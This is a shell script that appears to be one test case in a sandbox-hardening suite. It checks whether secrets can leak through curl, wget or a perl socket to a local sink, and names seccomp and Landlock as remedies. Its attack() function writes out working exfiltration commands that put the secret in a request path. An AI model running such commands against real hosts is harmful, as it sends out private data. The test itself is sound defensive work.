#!/bin/sh
# SPDX-License-Identifier: MIT
#
# Goal:  bytes reach the attacker's host, with no line of network code.
# Means: programs that are there for downloading: what is asked for is what leaves. curl, wget,
#        perl, whichever the machine has; perl is in every Debian.
#
# shellcheck disable=SC2034 # attack.sh reads the words

effect="bytes reach the attacker's host"
means="curl, wget or perl, asked for a page whose name is the secret"
oracle=sink
id=NET-12
attack_id="T1048.003, T1105, CWE-200"
remedy="seccomp without sockets; Landlock from ABI 4 on; a folder of programs without such tools"
refs="curl(1)
wget(1)"

attack() {
	attempting
	curl --silent --max-time 2 "http://127.0.0.1:$sink/$secret" && return
	wget --quiet --timeout=2 --tries=1 -O /dev/null "http://127.0.0.1:$sink/$secret" && return
	perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 0) or die "socket: $!\n";
		connect(S, sockaddr_in(shift, INADDR_LOOPBACK)) or die "connect: $!\n";
		syswrite(S, shift) or die "write: $!\n"' "$sink" "$secret" && return
	denied "every tool that is here"
}

. "${0%/*}/../attack.sh"
